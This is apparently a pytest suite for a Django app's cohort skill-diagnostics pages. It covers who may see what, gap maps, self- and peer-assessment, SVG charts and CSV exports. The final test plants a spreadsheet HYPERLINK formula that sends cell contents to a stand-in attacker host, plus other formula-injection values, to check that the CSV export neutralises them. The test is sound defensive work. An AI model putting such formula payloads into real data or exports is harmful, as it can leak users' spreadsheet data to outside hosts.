"""The diagnostics pages tried by the people who may and may not use them, and what they
show."""

from urllib.parse import quote

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from cadre.diagnostics.models import Assessment, AssessmentRound, TargetSkill
from cadre.people.models import ProfileSkill
from cadre.schedule.tests.helpers import add_members

from .helpers import assess, open_round, set_targets

SEE = ["admin", "organizer", "host", "member"]
CANNOT_SEE = ["other_cohort_member", "mentor", "partner", "outsider"]
READ_PAGES = ["overview", "gap_map_csv", "rounds", "growth", "growth_csv"]
LEARNER_PAGES = ["assess", "peer", "me"]
ALL_PAGES = READ_PAGES + LEARNER_PAGES + ["targets"]


@pytest.fixture
def url(cast):
    def build(name, *extra, cohort=None):
        cohort = cohort or cast.cohort
        return reverse(f"diagnostics:{name}", args=[cohort.network.slug, cohort.slug, *extra])

    return build


@pytest.fixture
def started(cast):
    """Two targets, a baseline and a later round with peer assessments, and answers."""
    set_targets(cast, facilitation=3, data_analysis=4)
    start = open_round(cast.cohort, "Start", days_ago=30)
    mid = open_round(cast.cohort, "Midpoint", days_ago=1, peers=True)
    for skill, member_level, host_level in [("facilitation", 1, 4), ("data-analysis", 0, 2)]:
        assess(start, skill, cast.member, member_level)
        assess(start, skill, cast.host, host_level)
    assess(mid, "facilitation", cast.member, 2)
    return start, mid


def member_urls(url, cast):
    return [url("member", cast.member.pk), url("member_csv", cast.member.pk)]


# --- who sees what --------------------------------------------------------------------------


@pytest.mark.parametrize("person", SEE)
def test_cohort_members_and_organizers_see_the_gap_map_growth_and_rounds(
    cast, client_for, url, started, person
):
    client = client_for(getattr(cast, person))
    for page in READ_PAGES:
        assert client.get(url(page)).status_code == 200, page
    assert "Mo Member" in client.get(url("overview")).content.decode()


@pytest.mark.parametrize("person", CANNOT_SEE)
def test_people_outside_the_cohort_get_404_everywhere(cast, client_for, url, started, person):
    client = client_for(getattr(cast, person))
    for page in ALL_PAGES:
        assert client.get(url(page)).status_code == 404, page
    for page_url in member_urls(url, cast):
        assert client.get(page_url).status_code == 404, page_url
    assert client.post(url("assess"), {"level_facilitation": "4"}).status_code == 404
    assert client.post(url("targets"), {"target_facilitation": "1"}).status_code == 404
    assert client.post(url("rounds"), {"label": "Sneaky"}).status_code == 404
    assert Assessment.objects.count() == 5 and AssessmentRound.objects.count() == 2


def test_anonymous_visitors_are_sent_to_sign_in(cast, client_for, url, started):
    client = client_for(None)
    for page_url in [url(p) for p in ALL_PAGES] + member_urls(url, cast):
        response = client.get(page_url)
        assert response.status_code == 302 and response.url.startswith(reverse("account_login")), (
            page_url
        )


def test_newcomer_must_accept_the_code_of_conduct_first(cast, client_for, url, started):
    client = client_for(cast.newcomer)
    for page in ALL_PAGES:
        response = client.get(url(page))
        assert response.status_code == 302, page
        assert response.url.startswith(reverse("networks:conduct", args=["northwind"]))
    assert quote(url("assess")) in client.get(url("assess")).url


def test_a_shared_cohort_still_keeps_its_diagnostics_to_members(cast, client_for, url, started):
    cast.cohort.shared_with_network = True
    cast.cohort.save()
    for person in (cast.other_cohort_member, cast.mentor):
        assert client_for(person).get(url("overview")).status_code == 404


def test_a_mentor_who_is_in_the_cohort_sees_it_but_does_not_assess(cast, client_for, url, started):
    from cadre.cohorts.models import CohortMembership

    CohortMembership.objects.create(cohort=cast.cohort, user=cast.mentor, role="mentor")
    client = client_for(cast.mentor)
    assert client.get(url("overview")).status_code == 200
    assert client.get(url("assess")).status_code == 403


@pytest.mark.parametrize("person", ["admin", "organizer"])
def test_organizers_outside_the_cohort_do_not_assess(cast, client_for, url, started, person):
    client = client_for(getattr(cast, person))
    for page in LEARNER_PAGES:
        assert client.get(url(page)).status_code == 403, page
    assert client.post(url("assess"), {"level_facilitation": "4"}).status_code == 403


@pytest.mark.parametrize("person", ["admin", "organizer", "host"])
def test_hosts_and_organizers_set_targets_and_open_rounds(cast, client_for, url, person):
    client = client_for(getattr(cast, person))
    assert client.get(url("targets")).status_code == 200
    response = client.post(
        url("targets"), {"target_facilitation": "3", "target_data-analysis": "4"}
    )
    assert response.status_code == 302
    assert TargetSkill.objects.filter(cohort=cast.cohort).count() == 2
    response = client.post(
        url("rounds"),
        {"label": "Start", "opens_on": "2026-01-05", "peer_assessments_enabled": "on"},
    )
    assert response.status_code == 302
    opened = AssessmentRound.objects.get(cohort=cast.cohort)
    assert (opened.number, opened.label, opened.peer_assessments_enabled) == (1, "Start", True)
    assert opened.opened_by == getattr(cast, person)


def test_members_may_not_set_targets_or_open_rounds(cast, client_for, url):
    client = client_for(cast.member)
    assert client.get(url("targets")).status_code == 403
    assert client.post(url("targets"), {"target_facilitation": "3"}).status_code == 403
    assert (
        client.post(url("rounds"), {"label": "Mine", "opens_on": "2026-01-05"}).status_code == 403
    )
    assert client.get(url("rounds")).status_code == 200
    assert not TargetSkill.objects.exists() and not AssessmentRound.objects.exists()


def test_bad_targets_come_back_with_the_field_named(cast, client_for, url):
    response = client_for(cast.host).post(url("targets"), {"target_facilitation": "9"})
    assert response.status_code == 422
    assert "Choose a target from 1 to 4" in response.content.decode()
    assert not TargetSkill.objects.exists()


def test_a_member_sees_their_own_growth_but_not_a_peers(cast, client_for, url, started):
    peer = add_members(cast.cohort, 1)[0]
    member = client_for(cast.member)
    assert member.get(url("me")).url == url("member", cast.member.pk)
    assert member.get(url("member", cast.member.pk)).status_code == 200
    assert member.get(url("member_csv", cast.member.pk)).status_code == 200
    assert member.get(url("member", peer.pk)).status_code == 404
    assert member.get(url("member_csv", peer.pk)).status_code == 404
    assert member.get(url("member", cast.outsider.pk)).status_code == 404
    for person in ("host", "organizer", "admin"):
        assert client_for(getattr(cast, person)).get(url("member", peer.pk)).status_code == 200


# --- the gap map and suggestions -------------------------------------------------------------


def test_the_gap_map_shows_levels_gaps_and_says_who_can_see_them(cast, client_for, url, started):
    text = client_for(cast.member).get(url("overview")).content.decode()
    assert "sees each other’s latest self-assessed levels" in text
    assert "never who gave which score" in text
    assert "4 to go" in text  # Mo in data analysis: 0 of target 4
    assert "▲" in text and "★" in text  # marks, not only colour
    assert "Download the gap map (CSV)" in text


def test_suggestions_are_all_for_hosts_and_only_ones_own_for_members(
    cast, client_for, url, started
):
    peer = add_members(cast.cohort, 1)[0]
    TargetSkill.objects.filter(skill__slug="facilitation").update(target_level=4)
    host_view = client_for(cast.host).get(url("overview")).context["suggestions"]
    assert [(p["learner"], p["teacher"]) for p in host_view.peer] == [(cast.member, cast.host)]
    mine = client_for(cast.member).get(url("overview")).context["suggestions"]
    assert len(mine.peer) == 1
    theirs = client_for(peer).get(url("overview")).context["suggestions"]
    assert theirs.peer == [] and theirs.mentors == []


def test_a_mentor_is_suggested_for_a_gap_no_peer_can_fill(cast, client_for, url, started):
    data_analysis = cast.network.skills.get(slug="data-analysis")
    ProfileSkill.objects.create(profile=cast.mentor.profile, skill=data_analysis, level=4)
    text = client_for(cast.member).get(url("overview")).content.decode()
    assert "Mei Mentor, mentor (level 4), for Mo Member" in text


def test_the_peer_mean_shows_only_with_two_peers_and_never_who_gave_it(
    cast, client_for, url, started
):
    start, mid = started
    peer = add_members(cast.cohort, 1)[0]
    given = assess(mid, "facilitation", cast.member, 4, assessor=cast.host)
    given.note = "Ran the retro with clear timeboxes"
    given.save()
    page = client_for(cast.member).get(url("member", cast.member.pk))
    # facilitation, midpoint: round, self, peer mean, target
    assert page.context["charts"][1].rows[1] == ["Midpoint", "2", "", "3"]
    assert "Ran the retro" not in page.content.decode()
    assess(mid, "facilitation", cast.member, 3, assessor=peer)
    page = client_for(cast.member).get(url("member", cast.member.pk))
    text = page.content.decode()
    assert page.context["charts"][1].rows[1] == ["Midpoint", "2", "3.5", "3"]
    assert "Ran the retro" in text
    assert "Hana Host" not in text.split("<main")[1].split("</main>")[0].split("Growth")[-1]
    overview = client_for(cast.member).get(url("overview")).content.decode()
    assert "peers 3.5 (2)" in overview


def test_the_gap_map_costs_the_same_queries_for_a_bigger_cohort(cast, client_for, url, started):
    client = client_for(cast.host)

    def count() -> int:
        with CaptureQueriesContext(connection) as ctx:
            assert client.get(url("overview")).status_code == 200
        return len(ctx)

    count()  # the first request of a session costs one query more
    small = count()
    start, mid = started
    for n, person in enumerate(add_members(cast.cohort, 12)):
        assess(start, "facilitation", person, n % 5)
        assess(mid, "data-analysis", person, (n + 2) % 5)
        assess(mid, "facilitation", person, 3, assessor=cast.host)
    # Never more for five times the people (one fewer when peers fill every gap, as the
    # mentor look-up is then skipped).
    assert count() <= small
    for page in ("growth", "gap_map_csv", "growth_csv"):
        with CaptureQueriesContext(connection) as ctx:
            client.get(url(page))
        assert len(ctx) <= small, page


# --- assessing ------------------------------------------------------------------------------


def test_a_member_fills_the_whole_self_assessment_at_once(cast, client_for, url, started):
    start, mid = started
    client = client_for(cast.host)
    page = client.get(url("assess"))
    assert page.status_code == 200 and "Midpoint" in page.content.decode()
    assert "last round you said 4" in page.content.decode()  # facilitation at the start
    response = client.post(
        url("assess"),
        {"level_facilitation": "4", "level_data-analysis": "3", "note_data-analysis": "Built it"},
    )
    assert response.status_code == 302 and response.url == url("me")
    mine = Assessment.objects.filter(round=mid, subject=cast.host, assessor=cast.host)
    assert dict(mine.values_list("skill__slug", "level")) == {
        "facilitation": 4,
        "data-analysis": 3,
    }


def test_a_bad_level_saves_nothing_and_names_the_skill(cast, client_for, url, started):
    start, mid = started
    response = client_for(cast.host).post(
        url("assess"), {"level_facilitation": "4", "level_data-analysis": "5"}
    )
    assert response.status_code == 422
    assert response.context["form"].errors.keys() == {"level_data-analysis"}
    assert not Assessment.objects.filter(round=mid, subject=cast.host).exists()


def test_the_self_assessment_answers_htmx_with_its_form_only(cast, client_for, url, started):
    start, mid = started
    response = client_for(cast.member).post(
        url("assess"),
        {"level_facilitation": "3", "level_data-analysis": "1"},
        headers={"HX-Request": "true"},
    )
    text = response.content.decode()
    assert response.status_code == 200 and "Saved." in text
    assert "<html" not in text and 'id="assessment-form"' in text
    assert (
        Assessment.objects.get(round=mid, subject=cast.member, skill__slug="facilitation").level
        == 3
    )


def test_an_htmx_self_assessment_with_errors_comes_back_in_place(cast, client_for, url, started):
    start, mid = started
    response = client_for(cast.member).post(
        url("assess"),
        {"level_facilitation": "3", "level_data-analysis": "7"},
        headers={"HX-Request": "true"},
    )
    text = response.content.decode()
    assert response.status_code == 200 and "<html" not in text
    assert "Choose a level from 0" in text and "Saved." not in text
    assert Assessment.objects.get(round=mid, subject=cast.member).level == 2  # unchanged


def test_with_no_round_or_targets_there_is_nothing_to_assess(cast, client_for, url):
    response = client_for(cast.member).get(url("assess"))
    assert response.status_code == 409 and "no target skills" in response.content.decode()
    set_targets(cast, facilitation=3)
    response = client_for(cast.member).get(url("assess"))
    assert response.status_code == 409 and "No assessment round" in response.content.decode()


def test_peers_assess_each_other_when_the_round_allows(cast, client_for, url, started):
    start, mid = started
    client = client_for(cast.member)
    form = client.get(url("peer")).context["form"]
    assert list(form.fields["subject"].queryset) == [cast.host, cast.newcomer]  # not themselves
    response = client.post(url("peer"), {"subject": cast.host.pk, "skill": "x", "level": "3"})
    assert response.status_code == 422
    facilitation = cast.network.skills.get(slug="facilitation")
    response = client.post(
        url("peer"), {"subject": cast.member.pk, "skill": facilitation.pk, "level": "3"}
    )
    assert response.status_code == 422 and not Assessment.objects.peer_assessments().exists()
    response = client.post(
        url("peer"), {"subject": cast.host.pk, "skill": facilitation.pk, "level": "3"}
    )
    assert response.status_code == 302
    given = Assessment.objects.peer_assessments().get()
    assert (given.subject, given.assessor, given.round, given.level) == (
        cast.host,
        cast.member,
        mid,
        3,
    )


def test_peer_assessments_are_refused_when_the_round_has_none(cast, client_for, url):
    set_targets(cast, facilitation=3)
    open_round(cast.cohort)
    assert client_for(cast.member).get(url("peer")).status_code == 403


# --- charts and CSV -------------------------------------------------------------------------


def test_growth_charts_are_inline_svg_with_a_title_description_and_table(
    cast, client_for, url, started
):
    page = client_for(cast.member).get(url("growth"))
    text = page.content.decode()
    assert text.count("<svg") == 2 and 'role="img"' in text
    assert "<title>Facilitation: cohort average</title>" in text
    assert "Cohort average: 2.5 in Start, 2 in Midpoint. Target 3." in text
    facilitation = page.context["charts"][1]
    assert facilitation.headers == ["Round", "Cohort average", "Answers", "Target"]
    assert facilitation.rows == [["Start", "2.5", "2", "3"], ["Midpoint", "2", "1", "3"]]
    assert "<td>2.5</td><td>2</td><td>3</td>" in text  # the table is on the page
    assert 'class="point-value"' in text  # each value is written beside its point
    assert "Download these numbers (CSV)" in text
    mine = client_for(cast.member).get(url("member", cast.member.pk)).content.decode()
    assert "Self: 1 in Start, 2 in Midpoint." in mine


def test_the_csv_files_hold_the_numbers(cast, client_for, url, started):
    client = client_for(cast.host)
    growth = client.get(url("growth_csv"))
    assert growth["Content-Type"].startswith("text/csv")
    assert "reliability-growth.csv" in growth["Content-Disposition"]
    lines = growth.content.decode().splitlines()
    assert lines[0] == "skill,target,round,round_label,average_level,answers"
    assert "Facilitation,3,1,Start,2.5,2" in lines and "Facilitation,3,2,Midpoint,2,1" in lines
    gap = client.get(url("gap_map_csv")).content.decode().splitlines()
    assert gap[0] == "member,skill,target,self_level,round,peer_mean,peers,gap"
    assert "Mo Member,Data analysis,4,0,Start,,,4" in gap
    member = client.get(url("member_csv", cast.member.pk)).content.decode().splitlines()
    assert "Facilitation,3,2,Midpoint,2," in member


def test_assessment_links_show_only_while_there_is_something_to_assess(cast, client_for):
    from django.urls import reverse

    from .helpers import open_round, set_targets

    args = [cast.network.slug, cast.cohort.slug]
    overview = reverse("diagnostics:overview", args=args)
    assess, peer = reverse("diagnostics:assess", args=args), reverse("diagnostics:peer", args=args)
    member = client_for(cast.member)

    def links() -> tuple[bool, bool]:
        page = member.get(overview).content.decode()
        return assess in page, peer in page

    open_round(cast.cohort)  # a round, but no target skills: nothing to assess
    assert links() == (False, False)
    assert member.get(assess).status_code == 409
    set_targets(cast, facilitation=3)
    assert links() == (True, False)  # this round has no peer assessments
    assert member.get(peer).status_code == 403
    open_round(cast.cohort, label="Midpoint", peers=True)
    assert links() == (True, True)
    assert member.get(peer).status_code == 200


def test_the_csv_files_neutralise_formula_text_in_names_skills_and_rounds(
    cast, client_for, url, started
):
    start, mid = started
    cast.member.name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    cast.member.save()
    skill = cast.network.skills.get(slug="facilitation")
    skill.name = "@SUM(A1:A9)"
    skill.save()
    mid.label = "-2+3"
    mid.save()
    client = client_for(cast.host)
    gap = client.get(url("gap_map_csv")).content.decode()
    growth = client.get(url("growth_csv")).content.decode()
    mine = client.get(url("member_csv", cast.member.pk)).content.decode()
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")",\'@SUM(A1:A9),3' in gap
    assert "'@SUM(A1:A9),3,2,'-2+3,2,1" in growth.splitlines()
    assert "'@SUM(A1:A9),3,2,'-2+3,2," in mine.splitlines()
    for text in (gap, growth, mine):
        assert not any(line.startswith(("=", "@", "-", "+")) for line in text.splitlines())
        assert ",=" not in text and ",@" not in text and ",-2+3" not in text
